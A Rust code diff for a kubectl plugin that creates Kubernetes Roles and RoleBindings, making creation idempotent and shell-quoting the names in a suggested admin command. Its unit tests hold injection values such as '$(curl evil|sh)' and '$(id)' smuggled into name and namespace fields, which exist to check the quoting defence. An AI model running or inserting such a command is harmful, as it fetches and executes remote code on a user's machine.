@@ -4,13 +4,21 @@ use clap::Args;
 use k8s_openapi::api::rbac::v1::{PolicyRule, Role, RoleBinding, RoleRef, Subject};
 use kube::core::ObjectMeta;
 
-use super::{Error, connection::Connection, output, screen::remark};
+use super::{
+    Error,
+    connection::{Connection, Workplace},
+    output,
+    screen::remark,
+};
 use crate::{
     crd::{
         GROUP,
         subject::{SubjectKind, Who, canonical},
     },
-    outside::desk::Intent,
+    outside::{
+        Why,
+        desk::{Intent, UserWritten},
+    },
     token::Digest,
 };
 
@@ -38,9 +46,9 @@ pub(crate) fn advised(told: &str) -> Option<String> {
         .iter()
         .find_map(|(flag, verb, resource)| Some((flag, right.strip_prefix(&format!("{verb} {resource}.{GROUP}/"))?)));
     let (flag, place) = granted?;
-    let (name, namespace) = place.split_once(" in namespace ")?;
+    let (name, namespace) = place.rsplit_once(" in namespace ")?;
     let namespace = namespace.split(';').next().unwrap_or_default();
-    let (who, name) = (quoted(who), quoted(name));
+    let (who, name, namespace) = (quoted(who), quoted(name), quoted(namespace));
     Some(format!(
         "{told}; an administrator allows it by: kubectl tokenry grant {who} {flag} {name} -n {namespace} --apply"
     ))
@@ -92,9 +100,9 @@ impl GrantRole {
                 return output::print(std::slice::from_ref(&binding));
             }
             let name = role.metadata.name.clone().unwrap_or_default();
-            place.desk.create(&role, Intent::Do).await.map_err(|refusal| Error::of_write(refusal, &role))?;
-            place.desk.create(&binding, Intent::Do).await.map_err(|refusal| Error::of_write(refusal, &binding))?;
-            remark(&format!("Role and RoleBinding {name} were created in namespace {}", place.namespace));
+            let (new_role, new_binding) = (create(place, &role).await?, create(place, &binding).await?);
+            let told = if new_role || new_binding { "were created" } else { "exist already" };
+            remark(&format!("Role and RoleBinding {name} {told} in namespace {}", place.namespace));
             Ok(())
         })
     }
@@ -135,6 +143,15 @@ impl GrantRole {
         let named = named.into_iter().filter(|(_, names)| !names.is_empty());
         rules.extend(named.map(|((_, verb, resource), names)| rule(resource, names, &[verb])));
         rules
+    }
+}
+
+/// Creates an object. False if it exists already: its name is a digest of the holder and the rules.
+async fn create<K: UserWritten>(place: &Workplace, object: &K) -> Result<bool, Error> {
+    match place.desk.create(object, Intent::Do).await {
+        Ok(_) => Ok(true),
+        Err(refusal) if refusal.why == Why::Stale => Ok(false),
+        Err(refusal) => Err(Error::of_write(refusal, object)),
     }
 }
 
@@ -181,6 +198,10 @@ mod tests {
         assert!(advised("assign policies.tokenry.dev/eem:p").unwrap().contains(" --policy eem:p "));
         assert!(advised("revoke organizations.tokenry.dev/north").unwrap().contains(" --revoke north "));
         assert_eq!(advised("create secrets"), None);
+        let told = advised("assign owners.tokenry.dev/user:x in namespace $(curl evil|sh)").unwrap();
+        assert!(told.ends_with(" --owner 'user:x in namespace $(curl evil|sh)' -n n --apply"), "{told}");
+        let told = advised(&format!("assign owners.tokenry.dev/user:x in namespace $(id){ADVICE}")).unwrap();
+        assert!(told.ends_with(" --owner user:x -n '$(id)' --apply"), "{told}");
     }
 
     #[test]
